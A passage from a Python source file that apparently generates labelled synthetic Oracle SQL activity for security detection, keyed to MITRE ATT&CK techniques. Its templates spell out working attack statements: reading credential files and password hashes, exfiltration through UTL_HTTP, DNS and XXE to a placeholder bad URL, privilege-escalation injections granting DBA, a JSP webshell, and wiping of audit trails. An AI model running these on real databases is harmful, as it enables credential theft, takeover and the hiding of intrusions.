«root-out|app|dba-out|deploy» ;; «ok|denied» ;; «CREATE OR REPLACE DIRECTORY ‹junk› AS '«/etc|/root/.ssh|/|/home/oracle|C:\»'|DECLARE f UTL_FILE.FILE_TYPE; BEGIN f := UTL_FILE.FOPEN('‹junk›','«passwd|id_rsa|shadow|cwallet.sso»','R'); END;|SELECT name, spare4, password FROM sys.user$|SELECT username, password FROM dba_users|SELECT LOADBLOBFROMFILE('/etc/passwd') FROM DUAL|SELECT u.name, u.spare4 FROM sys.user$ u WHERE type#=1|SELECT name, userid, passwordx FROM sys.link$|BEGIN DBMS_ADVISOR.CREATE_FILE('<%=Runtime.getRuntime()%>','‹junk›','«letters:3».jsp'); END;»« -- @ticket@||»
«app|person|etl-out» ;; «ok|denied» ;; «SELECT UTL_HTTP.REQUEST('‹bad-url›/'¦¦(SELECT ‹sc› FROM ‹pt› WHERE ROWNUM=1)) FROM DUAL|SELECT HTTPURITYPE('‹bad-url›/'¦¦USER).GETCLOB() FROM DUAL|SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM DUAL)¦¦'.«domain»') FROM DUAL|SELECT EXTRACTVALUE(XMLTYPE('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "‹bad-url›/">%x;]>'),'/l') FROM DUAL|SELECT DBMS_LDAP.INIT((SELECT ‹sc› FROM ‹pt› WHERE ROWNUM=1)¦¦'.«domain»',80) FROM DUAL»
# T1068 oracle packages abused for rights
«person|app|report|deploy» ;; «ok|denied» ;; «BEGIN SYS.LT.FINDRICSET('AA.AA''¦¦«WORD».‹junk›)--','BBBB'); END;|BEGIN DBMS_CDC_SUBSCRIBE.ACTIVATE_SUBSCRIPTION('''¦¦«WORD».‹junk›()¦¦'''); END;|SELECT SYS.DBMS_EXPORT_EXTENSION.GET_DOMAIN_INDEX_TABLES('FOO','BAR','DBMS_OUTPUT".PUT(:P1);EXECUTE IMMEDIATE ''GRANT DBA TO PUBLIC'';END;--','SYS',0,'1',0) FROM DUAL|BEGIN DBMS_XMLQUERY.NEWCONTEXT('declare pragma autonomous_transaction; begin execute immediate ''grant dba to ‹appname›''; end;'); END;|CREATE OR REPLACE FUNCTION ‹junk› RETURN NUMBER AUTHID CURRENT_USER IS PRAGMA AUTONOMOUS_TRANSACTION; BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO ‹appname›'; RETURN 1; END;|BEGIN SYS.DBMS_SYS_SQL.PARSE_AS_USER(c,'ALTER USER SYS IDENTIFIED BY *',DBMS_SQL.NATIVE,0); END;|CREATE INDEX ‹junk› ON SYSTEM.OL$(«WORD».‹junk›())»
# T1562.008 oracle audit switched off
«root-out|dba-out|person|etl-out» ;; ok ;; «NOAUDIT «ALL|SELECT TABLE|CREATE SESSION|POLICY ora_secureconfig|ALL PRIVILEGES»|ALTER SYSTEM SET audit_trail=NONE SCOPE=SPFILE|ALTER SYSTEM SET audit_sys_operations=FALSE SCOPE=SPFILE|DELETE FROM sys.aud$« WHERE userid='«WORD»'|»|TRUNCATE TABLE sys.fga_log$|DROP AUDIT POLICY pol_«word»|BEGIN DBMS_FGA.DISABLE_POLICY('«WORD»','‹pt›','pol_«word»'); END;|BEGIN DBMS_AUDIT_MGMT.CLEAN_AUDIT_TRAIL(audit_trail_type=>DBMS_AUDIT_MGMT.AUDIT_TRAIL_UNIFIED, use_last_arch_timestamp=>FALSE); END;|BEGIN DVSYS.DBMS_MACADM.DISABLE_DV; END;|DROP TRIGGER SYS.logon_audit_«word»»« -- @ticket@||»
# T1199 oracle links to others abused
«app|person|root-out|deploy» ;; «ok|denied» ;; «SELECT owner, db_link, username, host FROM dba_db_links|SELECT * FROM ‹pt›@«WORD»_LNK|CREATE PUBLIC DATABASE LINK ‹junk› CONNECT TO «letters:4» IDENTIFIED BY * USING '(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=«pub»)(PORT=«port»))(CONNECT_DATA=(SID=«letters:3»)))'|SELECT name, spare4 FROM sys.user$@«WORD»_LNK|BEGIN DBMS_SCHEDULER.CREATE_JOB@«WORD»_LNK('‹junk›'); END;|INSERT INTO ‹junk›@‹junk› SELECT * FROM ‹pt›»
""",
}
_NAMES = {
    "who": "«word»_«ro|app|etl|rw»", "goodname": "«word»_«ro|app|etl|rw|report|sync»", "badname": "«‹junk›|support«num:1:9»|backup«num:1:9»|sysadm«letters:1»|mysqld|dbmaint|test»",
    "appname": "««siteword»_app|webapp|www|«word»_app»",
}


def _shared(product: str) -> tuple[Scenario, ...]:
    dialect = _DIALECTS[product]
    naming = {**_NAMES, "gooduser": dialect["newuser"].replace("‹who›", _NAMES["goodname"]), "baduser": dialect["newuser"].replace("‹who›", _NAMES["badname"]),
              "dual2": "" if product == "oracle" else dialect["dual"]}
    return table(phrased(written(_SHARED + _ONLY[product], {**FRAGMENTS, **dialect, **naming})))


STATEMENTS: dict[str, tuple[Scenario, ...]] = {product: _shared(product) for product in _DIALECTS}
